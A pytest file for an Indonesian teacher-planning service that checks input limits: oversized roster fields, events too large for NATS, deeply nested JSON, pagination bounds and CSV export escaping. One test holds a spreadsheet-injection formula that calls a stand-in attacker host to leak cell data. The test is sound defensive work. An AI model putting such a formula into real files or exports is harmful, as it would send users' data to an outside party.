"""Limits on the roster (issue 11), against real NATS and a real database (SQLite, PostgreSQL).

Found: a roster line with a 1.1 MB name was accepted (on PostgreSQL the import answered 500),
its RosterImported event was over NATS's 1 MiB max_payload, and the relay retried it forever:
every later planning event stayed unsent. Now every roster column is checked against its
column's length (422 naming the field, JSON, CSV and the streamed CLI import alike), a command
whose event would be too large is refused (422 data_terlalu_besar, nothing written), and the
outbox keeps flowing."""

from __future__ import annotations

import re

import pytest

from kinerja_shared.errors import AppError
from kinerja_shared.limits import NAME_MAX

from kinerja_planning.bootstrap import import_roster_file
from planning_harness import HEADER, SampleSchool, new_nip, sistem, start_planning

MiB = 1024 * 1024


def rows_of(school: SampleSchool) -> list[dict]:
    """The school's CSV lines as JSON rows."""
    header = HEADER.split(",")
    import csv
    import io

    return [dict(zip(header, values)) for values in list(csv.reader(io.StringIO(school.csv())))[1:]]


@pytest.fixture
async def planning_big(settings):
    async with start_planning(settings.model_copy(update={"roster_max_bytes": 8 * MiB})) as service:
        yield service


async def test_a_2mb_roster_name_is_refused_with_422_and_the_outbox_keeps_flowing(planning_big):
    planning = planning_big
    school = SampleSchool()
    rows = rows_of(school)
    rows[2]["name"] = "x" * (2 * 1000 * 1000)
    refused = await planning.client.post("/v1/roster/imports", json={"rows": rows}, headers=sistem())
    assert refused.status_code == 422, refused.text[:500]
    error = refused.json()["error"]
    assert error["code"] == "roster_tidak_valid"
    assert error["details"] == [{"line": 3, "nip": school.guru_nips[0],
                                 "problems": [f"name lebih dari {NAME_MAX} karakter (2000000 karakter)"]}]
    assert len(refused.content) < 2000  # the value is never echoed back

    # The same through CSV: too long for the column (a 256-character name), or for the CSV reader.
    csv_line = school.csv().replace("Guru 0", "y" * (NAME_MAX + 1))
    too_long = await planning.import_csv(csv_line)
    assert too_long.status_code == 422
    assert too_long.json()["error"]["details"][0]["problems"] == [f"name lebih dari {NAME_MAX} karakter (256 karakter)"]
    huge = await planning.import_csv(school.csv().replace("Guru 0", "y" * (2 * 1000 * 1000)))
    assert huge.status_code == 422 and len(huge.content) < 2000
    long_nip = await planning.import_csv(school.csv().replace(school.guru_nips[1], "9" * 5000))
    assert long_nip.status_code == 422 and len(long_nip.content) < 2000
    assert "nip lebih dari 18 karakter" in long_nip.text
    assert await planning.counts() == {**await planning.counts(), "Person": 0, "OutboxMessage": 0}

    # Later imports are published: nothing stuck in the outbox, nothing parked.
    imported = await planning.client.post("/v1/roster/imports", json={"rows": rows_of(school)}, headers=sistem())
    assert imported.status_code == 201, imported.text
    await planning.events("planning.roster.imported", import_id=imported.json()["import_id"])
    assert await planning.all_outbox_sent()
    metrics = (await planning.client.get("/metrics")).text
    assert re.search(r"^kinerja_outbox_pending 0\.0$", metrics, re.M)
    assert re.search(r"^kinerja_outbox_parked 0\.0$", metrics, re.M)
    ready = (await planning.client.get("/health/ready")).json()
    assert ready["details"]["outbox"] == "tertunda 0, diparkir 0"


async def test_a_roster_whose_event_would_be_too_large_is_refused_and_nothing_is_written(settings):
    async with start_planning(settings.model_copy(update={"event_max_bytes": 6_000})) as planning:
        school = SampleSchool(guru_nips=[new_nip(1980 + i % 15) for i in range(40)])
        refused = await planning.import_csv(school.csv())
        assert refused.status_code == 422, refused.text
        error = refused.json()["error"]
        assert error["code"] == "data_terlalu_besar"
        assert error["details"]["event_type"] == "planning.roster.imported"
        assert error["details"]["max_bytes"] == 6_000 and error["details"]["bytes"] > 6_000
        counts = await planning.counts()
        assert (counts["School"], counts["Person"], counts["RosterImport"], counts["OutboxMessage"]) == (0, 0, 0, 0)
        small = SampleSchool()
        assert (await planning.import_csv(small.csv())).status_code == 201
        assert await planning.all_outbox_sent()


async def test_the_streamed_cli_import_checks_field_lengths(settings, tmp_path):
    school = SampleSchool()
    path = tmp_path / "roster.csv"
    path.write_text(school.csv().replace("Guru 1", "z" * 300))
    with pytest.raises(AppError) as refused:
        await import_roster_file(settings, path, "operator-cli")
    assert refused.value.code == "roster_tidak_valid"
    assert refused.value.details[0]["problems"] == [f"name lebih dari {NAME_MAX} karakter (300 karakter)"]


async def test_pagination_is_bounded(planning):
    # page 10^18 made an offset past 64-bit integers: a 500 on SQLite and PostgreSQL.
    for params, field in (({"page": 10**18}, "query.page"), ({"page": 100_001}, "query.page"),
                          ({"page": 0}, "query.page"), ({"page_size": 201}, "query.page_size")):
        for path in ("/v1/plans", "/v1/plans/inbox"):
            r = await planning.client.get(path, params=params, headers=sistem())
            assert r.status_code == 422, (path, params, r.text)
            assert r.json()["error"]["code"] == "input_tidak_valid"
            assert r.json()["error"]["details"][0]["field"] == field
    r = await planning.client.get("/v1/plans", params={"page": 100_000}, headers=sistem())
    assert r.status_code == 200 and r.json()["plans"] == []


async def test_deeply_nested_roster_json_is_422_not_500(planning_big):
    planning = planning_big
    # Small: refused at the edge. Over KINERJA_HTTP_MAX_BODY_BYTES (the roster lifts that limit):
    # refused by the import's own check. Either was a RecursionError, a 500.
    small = b'{"rows": ' + b"[" * 5000 + b"]" * 5000 + b"}"
    large = b'{"pad": "' + b"p" * (1200 * 1000) + b'", "rows": ' + b"[" * 5000 + b"]" * 5000 + b"}"
    for body in (small, large):
        r = await planning.client.post("/v1/roster/imports", content=body,
                                       headers={"Content-Type": "application/json", **sistem()})
        assert r.status_code == 422, r.text[:300]
        assert r.json()["error"]["code"] == "json_terlalu_bersarang"
    assert (await planning.counts())["OutboxMessage"] == 0


async def test_json_bodies_over_the_http_limit_are_413_except_the_roster(planning_big):
    planning = planning_big
    big_body = {"policy": "pmm-2024", "year": 2026, "semester": 1, "pad": "x" * (1100 * 1000)}
    r = await planning.client.post("/v1/periods", json=big_body, headers=sistem())
    assert r.status_code == 413 and r.json()["error"]["code"] == "badan_permintaan_terlalu_besar"
    assert r.json()["error"]["details"] == {"max_bytes": 1024 * 1024}


async def test_text_fields_are_bounded_with_the_field_named(planning):
    school, period = await planning.school_with_open_period()
    long_text = "t" * 10_001
    r = await planning.client.post("/v1/plans", json={"period_id": period["period_id"], "rangkuman": long_text},
                                   headers=school.guru())
    assert r.status_code == 422, r.text[:300]
    assert r.json()["error"]["details"][0]["field"] == "body.rangkuman"
    r = await planning.client.post("/v1/plans", json={"period_id": "p" * 65}, headers=school.guru())
    assert r.status_code == 422 and r.json()["error"]["details"][0]["field"] == "body.period_id"
    plan = await planning.draft(school, period["period_id"])
    steps = [{"item_id": f"t{i}", "duty": "Wali kelas"} for i in range(501)]
    for body, problem in (([{"item_id": "t1", "duty": long_text}], "0: duty: teks lebih dari 10000 karakter (10001)"),
                          (steps, "lebih dari 500 butir (501)")):
        r = await planning.client.put(f"/v1/plans/{plan['plan_id']}/steps/tugas_tambahan", json=body, headers=school.guru())
        assert r.status_code == 422, r.text[:300]
        assert r.json()["error"]["details"] == [{"field": "body", "problem": problem}]
    submitted = await planning.client.post(f"/v1/plans/{plan['plan_id']}/submit", headers=school.guru())
    assert submitted.status_code == 200, submitted.text
    r = await planning.client.post(f"/v1/plans/{plan['plan_id']}/return", json={"reason": "r" * 2001}, headers=school.ks())
    assert r.status_code == 422 and r.json()["error"]["details"][0]["field"] == "body.reason"
    # Ids in the path longer than their columns: never a 500.
    for method, path, body in (
        ("PUT", f"/v1/schools/{'9' * 500}/priorities/{period['period_id']}", {"results": {}, "priorities": []}),
        ("PUT", f"/v1/schools/{school.npsn}/priorities/{'p' * 500}", {"results": {}, "priorities": []}),
        ("POST", f"/v1/periods/{'p' * 500}/open", None),
        ("POST", f"/v1/plans/{'p' * 500}/submit", None),
    ):
        r = await planning.client.request(method, path, json=body, headers=sistem())
        assert r.status_code < 500, (path[:60], r.text[:300])


async def test_formulas_in_roster_fields_are_stored_as_given_and_neutralised_in_the_csv_export(planning):
    import csv
    import io

    school = SampleSchool()
    rows = rows_of(school)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    rows[2]["name"], rows[3]["name"], rows[3]["jabatan"] = formula, "@SUM(1+1)", "-2+3"
    imported = await planning.client.post("/v1/roster/imports", json={"rows": rows}, headers=sistem())
    assert imported.status_code == 201, imported.text
    # Stored and forwarded as given: data to us, JSON to everyone downstream.
    people = (await planning.client.get(f"/v1/schools/{school.npsn}/people", headers=school.ks())).json()["people"]
    assert {p["name"] for p in people} >= {formula, "@SUM(1+1)"}
    [(_, envelope, _)] = await planning.events("planning.roster.imported", import_id=imported.json()["import_id"])
    assert formula in {p["name"] for p in envelope["payload"]["people"]}

    exported = await planning.client.get(f"/v1/schools/{school.npsn}/people.csv", headers=school.ks())
    assert exported.status_code == 200, exported.text
    assert exported.headers["content-type"].startswith("text/csv")
    assert exported.headers["content-disposition"] == f'attachment; filename="roster-{school.npsn}.csv"'
    assert '"\'=HYPERLINK(' in exported.text  # every cell quoted, the formula prefixed
    table = list(csv.DictReader(io.StringIO(exported.text)))
    by_nip = {r["nip"]: r for r in table}
    assert by_nip[school.guru_nips[0]]["name"] == "'" + formula
    assert (by_nip[school.guru_nips[1]]["name"], by_nip[school.guru_nips[1]]["jabatan"]) == ("'@SUM(1+1)", "'-2+3")
    assert by_nip[school.ks_nip]["name"] == "Kepala, S.Pd." and by_nip[school.ks_nip]["npsn"] == school.npsn
    assert list(table[0]) == HEADER.split(",") + ["school_jenjang", "school_status", "province_code", "nuptk", "nik", "jenis_ptk"]
    guru = await planning.client.get(f"/v1/schools/{school.npsn}/people.csv", headers=school.guru())
    assert guru.status_code == 403
